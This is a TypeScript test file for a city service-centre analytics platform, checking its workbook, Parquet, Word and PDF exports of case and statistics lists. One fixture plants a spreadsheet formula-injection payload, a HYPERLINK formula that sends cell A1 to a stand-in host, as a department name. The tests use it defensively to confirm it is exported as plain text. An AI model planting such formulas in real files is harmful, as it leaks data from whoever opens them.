/** Lists as files: workbooks, Parquet, Word and PDF, opened again by others than their writers. */
import { writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { REPORTS } from '@mingcha/analytics';
import { readXlsx } from 'hucre/xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { filesOfZip, openPdf, wordsOf } from './opened-files.ts';
import { cityEvents, MARCH, openSmallCity, type SmallCity } from './small-city.ts';

const FORMULA = '=HYPERLINK("http://x.example/?"&A1)';
/** A case number no spreadsheet may take for a number, and a department no spreadsheet may run. */
const LONG = '430600202603020001180';

let city: SmallCity;
beforeAll(async () => {
  city = await openSmallCity({
    directory: {
      'departments.csv': `department,name,centre,valid_from
plan,"${FORMULA.replaceAll('"', '""')}",hall,2020-01-01
food,市监局,hall,2020-01-01
idle,史志办,hall,2020-01-01
`,
    },
    events: cityEvents().map((event) => ({
      ...event,
      case_id: event['case_id'] === 'late' ? LONG : event['case_id'],
    })),
  });
});
afterAll(() => city?.close());

async function file(path: string): Promise<Buffer> {
  const answer = await city.server.inject({ url: `/api/v1${path}` });
  expect(answer.statusCode, answer.body.slice(0, 300)).toBe(200);
  return answer.rawPayload;
}
const json = async (path: string) => (await city.server.inject({ url: `/api/v1${path}` })).json();

it('are offered of every list there is: each is a report', async () => {
  const { paths } = (await city.server.inject({ url: '/docs/json' })).json();
  type Parameter = { name: string; schema: { enum?: string[] } };
  const lists = Object.entries(paths as Record<string, { get?: { parameters?: Parameter[] } }>)
    .filter(([, { get }]) =>
      get?.parameters?.some(({ name, schema }) => name === 'format' && schema.enum?.includes('xlsx')),
    )
    .map(([path]) => path.replace('/api/v1', '').replace(/\{(\w+)\}/g, ':$1'));
  expect(lists.length).toBeGreaterThan(20);
  const reports = Object.values(REPORTS).map(({ path }) => path);
  expect(lists.filter((path) => !reports.some((each) => each === path))).toEqual([]);
});

describe('a workbook', () => {
  it('has numbers, days and moments of the centre’s clock as such, codes as words, and text as text', async () => {
    const path = `/cases?${MARCH}&measure=received`;
    const { rows } = await json(path);
    const { sheets } = await readXlsx(await file(`${path}&format=xlsx`));
    expect(sheets.map(({ name }) => name)).toEqual(['数据', '说明']);
    const [head, ...lines] = sheets[0]!.rows;
    expect(head!.slice(0, 3)).toEqual(['办件编号', '状态', '判定']);
    expect(lines).toHaveLength(rows.length);
    const cell = (caseId: string, title: string) => lines.find((line) => line[0] === caseId)![head!.indexOf(title)];
    expect(cell(LONG, '状态')).toBe('已送达');
    expect(cell(LONG, '判定')).toBe('超期办结');
    expect(cell(LONG, '已用')).toBe(7);
    expect(cell(LONG, '办结时间')).toEqual(new Date('2026-03-11T15:00:00Z'));
    expect(cell(LONG, '应办结日')).toEqual(new Date('2026-03-09T00:00:00Z'));
    expect(cell('early', '评价')).toBe(1);
    expect(cell('early', '部门')).toBe(FORMULA);
    expect(cell('stopped', '办结时间')).toBeNull();
  });

  it('keeps digits as text and runs nothing, with the head frozen and filtered', async () => {
    const files = filesOfZip(await file(`/cases?${MARCH}&measure=received&format=xlsx`));
    const sheet = files.get('xl/worksheets/sheet1.xml')!;
    expect(sheet).toContain(`t="inlineStr"><is><t xml:space="preserve">${LONG}</t>`);
    expect(sheet).toContain('t="inlineStr"><is><t xml:space="preserve">=HYPERLINK(&quot;');
    expect(sheet).not.toContain('<f>');
    expect(sheet).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
    expect(sheet).toMatch(/<autoFilter ref="A1:W\d+"\/>/);
    expect(files.get('xl/workbook.xml')).toMatch(
      /_FilterDatabase" localSheetId="0" hidden="1">'数据'!\$A\$1:\$W\$\d+</,
    );
  });

  it('says on its second sheet what it is, of whom and when, how far data reach, and by which definitions', async () => {
    const { sheets } = await readXlsx(
      await file('/daily-statistics?from=2026-03-02&to=2026-03-11&by=department&department=food&format=xlsx'),
    );
    const about = Object.fromEntries(sheets[1]!.rows.map(([term, value]) => [term, value]));
    expect(about).toMatchObject({
      报表: '日统计',
      周期: '2026年3月2日至3月11日',
      范围: '市监局（food）',
      统计到: '部门',
      截至: '2026年3月11日 17:30 Asia/Shanghai',
      数据收至: expect.stringMatching(/^\d{4}年/),
      工作日历: '通用日历，已知至2026年12月31日',
      平台版本: '0.0.0',
      收件: expect.stringContaining('周期内有收件'),
    });
    expect(sheets[1]!.rows).toContainEqual(['提前办结率', expect.any(String), 'early_rate.of_commitment', 1]);
  });

  it('has rates cut to a tenth of a percent, and nothing over nothing', async () => {
    const { sheets } = await readXlsx(await file(`/early-completion?${MARCH}&by=department&format=xlsx&lang=en`));
    const [head, ...lines] = sheets[0]!.rows;
    const at = head!.indexOf('Early rate (of commitment)');
    const byUnit = Object.fromEntries(lines.map((line) => [line[2], line[at]]));
    expect(byUnit['plan'] ?? byUnit['food']).toBeDefined();
    const { rows } = await json(`/early-completion?${MARCH}&by=department`);
    for (const row of rows) {
      const { of_commitment_numerator: n, of_commitment_denominator: d } = row;
      const line = lines.find((each) => each.includes(row.unit))!;
      expect(line[at]).toBe(d === 0 ? null : Math.trunc((n * 1000) / d) / 1000);
    }
    expect(sheets.map(({ name }) => name)).toEqual(['Data', 'About']);
  });

  it('says when more rows follow, on the sheet and in a header', async () => {
    const answer = await city.server.inject({ url: `/api/v1/cases?${MARCH}&measure=received&format=xlsx&limit=2` });
    expect(answer.headers['mingcha-next-cursor']).toBeTruthy();
    const { sheets } = await readXlsx(answer.rawPayload);
    expect(sheets[0]!.rows).toHaveLength(3);
    expect(sheets[1]!.rows.flat().join(' ')).toContain('这里只有前2行');
  });

  it('is a file of its own name', async () => {
    const { headers } = await city.server.inject({ url: '/api/v1/dispatch?period=2026-03-2&format=xlsx' });
    expect(headers['content-disposition']).toBe(
      `attachment; filename="dispatch-2026-03-2-department.xlsx"; filename*=UTF-8''${encodeURIComponent('旬调度-2026-03-2-department.xlsx')}`,
    );
  });
});

describe('Parquet', () => {
  it('is read by DuckDB: the same rows, words as text, days as days, moments in UTC', async () => {
    const path = join(tmpdir(), `mingcha-${process.pid}.parquet`);
    await writeFile(path, await file(`/cases?${MARCH}&measure=received&format=parquet`));
    const connection = await (await DuckDBInstance.create()).connect();
    const read = await connection.runAndReadAll(
      `select case_id, typeof(verdict) as verdict, typeof(due_on) as due_on, typeof(decided_at) as decided_at, used,
        epoch_ms(decided_at) as at, flags from read_parquet('${path}') order by case_id`,
    );
    connection.closeSync();
    const rows = read.getRowObjectsJson();
    const { rows: told } = await json(`/cases?${MARCH}&measure=received`);
    expect(rows.map(({ case_id }) => case_id)).toEqual(told.map(({ case_id }: { case_id: string }) => case_id).sort());
    const late = rows.find(({ case_id }) => case_id === LONG)!;
    expect(late).toMatchObject({ verdict: 'VARCHAR', due_on: 'DATE', used: 7 });
    expect(String(late['decided_at'])).toMatch(/^TIMESTAMP/);
    expect(Number(late['at'])).toBe(Date.parse('2026-03-11T07:00:00Z'));
  });

  it('holds what is computed here, too', async () => {
    const path = join(tmpdir(), `mingcha-advice-${process.pid}.parquet`);
    const advice = `/window-advice?${MARCH}&by=department&minutes_per_case=12`;
    await writeFile(path, await file(`${advice}&format=parquet`));
    const connection = await (await DuckDBInstance.create()).connect();
    const read = await connection.runAndReadAll(
      `select unit, hour, arrivals, handling_minutes, is_overloaded from read_parquet('${path}')`,
    );
    connection.closeSync();
    const { rows } = await json(advice);
    expect(read.getRowObjectsJson()).toEqual(
      rows.map((row: Record<string, unknown>) =>
        Object.fromEntries(
          ['unit', 'hour', 'arrivals', 'handling_minutes', 'is_overloaded'].map((name) => [name, row[name]]),
        ),
      ),
    );
  });
});

describe('on paper', () => {
  const path = `/daily-statistics?${MARCH}&by=window`;

  it('a Word file repeats the head of its table and cuts no row, on a page that lies when it is wide', async () => {
    const body = filesOfZip(await file(`${path}&format=docx`)).get('word/document.xml')!;
    const rows = body.match(/<w:tr>.*?<\/w:tr>/gs)!;
    expect(rows.filter((row) => !row.includes('<w:cantSplit/>'))).toEqual([]);
    expect(rows.filter((row) => row.includes('<w:tblHeader/>'))).toHaveLength(2);
    expect(body).toMatch(/<w:pgSz w:w="16838" w:h="11906" w:orient="landscape"\/>/);
    const text = wordsOf(body);
    for (const words of ['日统计', '2026年3月1日至3月11日', '提前办结率', 'early_rate.of_commitment · 1'])
      expect(text).toContain(words);
    expect(text).toContain('规划1号窗');
  });

  it('a PDF says the same, with its pages counted and as-of moment at their foot', async () => {
    const pdf = openPdf(await file(`${path}&format=pdf`));
    expect(pdf.pages).toBeGreaterThan(1);
    const text = pdf.text.replaceAll('\n', '');
    for (const words of ['日统计', '口径说明', '规划1号窗', '截至 2026年3月11日 17:30']) expect(text).toContain(words);
    expect(text).toContain(`页，共${pdf.pages}页`);
    // The head of the table on each page it is on, and once more where it is defined.
    expect(text.split('期末超期在办').length - 1).toBeGreaterThanOrEqual(pdf.pages);
  });

  it('is in English when asked', async () => {
    const text = wordsOf(filesOfZip(await file(`${path}&format=docx&lang=en`)).get('word/document.xml')!);
    for (const words of ['Daily statistics', 'Open at end', 'As of', 'Definitions']) expect(text).toContain(words);
    expect(text.replaceAll(/规划局|市监局|规划\d号窗|市监\d号窗/g, '')).not.toMatch(/[一-鿿]/);
  });
});
